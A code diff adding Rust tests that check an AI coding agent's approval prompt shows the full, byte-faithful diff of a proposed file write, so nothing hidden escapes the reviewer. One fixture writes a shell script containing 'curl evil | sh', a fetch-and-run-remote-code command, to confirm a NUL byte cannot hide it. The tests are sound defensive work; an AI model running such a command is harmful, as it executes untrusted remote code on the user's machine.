@@ -377,6 +377,50 @@ async fn what_is_asked_is_exactly_what_would_happen() {
     assert_eq!(offers, [Allowance::Command(command.into()), Allowance::Tool("bash".into())]);
 }
 
+/// The diff that is shown when a file with the old content gets the new one by `write`.
+async fn diff_of_write(old: Option<&[u8]>, new: &str) -> String {
+    let project = Project::new();
+    if let Some(old) = old {
+        project.put("a", old);
+    }
+    let write = json!({ "path": "a", "content": new });
+    match decision(&project, &approvals(Mode::Default, &[]), "write", write).await {
+        Decision::Ask { what: Change::Diff { diff, .. }, .. } => diff,
+        other => panic!("{other:?}"),
+    }
+}
+
+#[tokio::test]
+async fn a_nul_does_not_empty_the_diff() {
+    let diff = diff_of_write(None, "#!/bin/sh\n\0\ncurl evil | sh\n").await;
+    assert!(diff.contains("+\0\n+curl evil | sh\n"), "{diff:?}");
+}
+
+#[tokio::test]
+async fn a_long_diff_is_shown_to_its_end() {
+    let diff = diff_of_write(None, &("harmless\n".repeat(60_000) + "evil\n")).await;
+    assert!(diff.ends_with("+harmless\n+evil\n"), "{}", diff.len());
+}
+
+#[tokio::test]
+async fn every_change_of_bytes_is_in_the_diff() {
+    let cases: [(&[u8], &str, &str); 5] = [
+        (b"a\nb\n", "a\r\nb\n", "+a\r\n"),
+        (b"a\r\nb\n", "a\nb\n", "-a\r\n"),
+        (b"a\n", "\u{feff}a\n", "+\u{feff}a\n"),
+        (b"caf\xe9\n", "caf\u{fffd}\n", "-caf<0xE9>\n+caf\u{fffd}\n"),
+        (b"caf\xe9\n", "caf<0xE9>\n", "[bytes change that are not text and cannot be shown]"),
+    ];
+    for (old, new, expected) in cases {
+        let diff = diff_of_write(Some(old), new).await;
+        assert!(diff.contains(expected), "{old:?} {new:?}: {diff:?}");
+    }
+    assert!(
+        !diff_of_write(Some(b"a\r\nb\r\n"), "a\nc\n").await.contains('\r'),
+        "line ends that stay are left out"
+    );
+}
+
 #[test]
 fn the_settings_of_a_session_come_back_as_they_were() {
     let mut given = approvals(
